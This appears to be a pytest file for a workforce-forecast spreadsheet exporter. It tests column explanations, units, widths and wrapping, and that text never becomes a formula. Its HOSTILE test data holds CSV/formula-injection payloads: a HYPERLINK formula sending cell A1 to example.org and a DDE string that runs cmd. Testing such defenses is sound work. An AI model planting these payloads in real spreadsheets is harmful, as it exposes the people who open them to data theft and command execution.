"""The tables of a forecast that a spreadsheet opens: units, widths, explained columns, and texts that never run."""

import csv
import io
import re
from dataclasses import replace
from types import SimpleNamespace

import openpyxl
import pytest

from samspil.experiments.tables import rows, write_xlsx
from samspil.reports import spreadsheet, workbook
from samspil.reports.columns import in_files
from samspil.reports.rows import Numbers
from samspil.reports.view import Info, view

from . import fake_results

RUN = {"commit": "1", "versions": {}, "digests": {"scenarios": {}, "evidence": "1"}}


def told(lang="en"):
    ds = fake_results.results(fake_results.Size())
    return view(ds, fake_results.summary(ds), lang, fake_results.infos(ds))


@pytest.mark.parametrize(("lang", "sheet"), [("en", "definitions"), ("da", "definitioner")])
def test_the_workbook_explains_and_formats_its_columns(tmp_path, lang, sheet):
    shown = told(lang=lang)
    book = openpyxl.load_workbook(workbook.write(tmp_path, shown, RUN))
    table = book.worksheets[0]
    explained = {row[0]: row[1] for row in book[sheet].iter_rows(min_row=2, values_only=True)}
    names = [row[3] for row in book[sheet].iter_rows(min_row=2, values_only=True)]
    assert names == list(rows(shown.summary)[0])
    assert list(explained) == [cell.value for cell in table[1]]
    assert all(explained.values())
    formats = {cell.value: table.cell(2, cell.column).number_format for cell in table[1]}
    heads = dict(zip((place.name for place in in_files(shown)), formats, strict=True))
    # Every number has its unit in its head or in its format.
    unit = {"en": "FTE", "da": "årsværk"}[lang]
    assert all(unit.lower() in heads[name].lower() for name in ("fte_2030-12_p50", "shortfall", "vs_baseline_p05"))
    assert all(isinstance(table.cell(2, column).value, int | float) for column in (3, 4, 6))
    assert (formats[heads["p_target"]], formats[heads["fte_2030-12_p50"]]) == ("0.0%", "#,##0.0")
    if lang == "da":
        book[sheet].delete_cols(4)  # names in table.csv are no words
        text = " ".join(str(cell.value) for each in book.worksheets for row in each.iter_rows() for cell in row)
        assert heads["p_target"].startswith("Chance for målet")
        assert not re.search(r"\b(title_en|p_target|counting|source|assumed|per month)\b", text)
    assert table.freeze_panes == "C2"
    assert table.column_dimensions["A"].width > len("current-policy")
    # No head or cell is cut: what does not fit in one line is wrapped, and the head's row is high enough.
    for each in book.worksheets:
        for head in each[1]:
            width = each.column_dimensions[head.column_letter].width
            assert head.alignment.wrap_text
            assert max(len(word) for word in head.value.split()) < width
            assert len(head.value) / (width - 2) * 15 <= each.row_dimensions[1].height
        cells = [cell for row in each.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
        assert all(len(c.value) < each.column_dimensions[c.column_letter].width or c.alignment.wrap_text for c in cells)


HOSTILE = ('=HYPERLINK("http://example.org/?"&A1,"click")', "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1", "\r=1")


@pytest.mark.parametrize("title", HOSTILE)
def test_no_text_becomes_a_formula_and_none_stops_the_workbook(tmp_path, title):
    shown = told()
    info = Info("current-policy", title, sources=(title, "a\x1b[2Jb", "اختبار 试验"))
    shown = replace(shown, infos={**shown.infos, "current-policy": info})
    plain = SimpleNamespace(name="current-policy", sources=info.sources)
    write_xlsx(tmp_path / "raw.xlsx", shown.summary, [plain], RUN)
    for path in (tmp_path / "raw.xlsx", workbook.write(tmp_path, shown, RUN)):
        cells = [cell for sheet in openpyxl.load_workbook(path) for row in sheet for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "n"}
        values = {cell.value.replace("_x000D_", "\r") for cell in cells if isinstance(cell.value, str)}
        assert {title, "a[2Jb", "اختبار 试验"} <= {value.replace("\n", "\r") for value in values}
        # Edited, it stays a text.
        assert all(cell.quotePrefix for cell in cells if cell.value == title)


@pytest.mark.parametrize("title", HOSTILE)
def test_no_text_becomes_a_formula_in_a_sheet_of_any_kind(title):
    shown = "'" + title.replace("\r", "\n")
    sheet = spreadsheet.excel_da([title, "b"], [[title, -1.5]])[1:]
    assert list(csv.reader(io.StringIO(sheet, newline=""), delimiter=";")) == [[shown, "b"], [shown, "-1,5"]]
    figure = Numbers("x", ["a", title], ["text", "signed"], [[title, -1.5]]).csv()
    rows_there = list(csv.reader(io.StringIO(figure, newline="")))
    assert rows_there[1] == [shown, "-1.5"]
    assert rows_there[0][1][0] == "'"
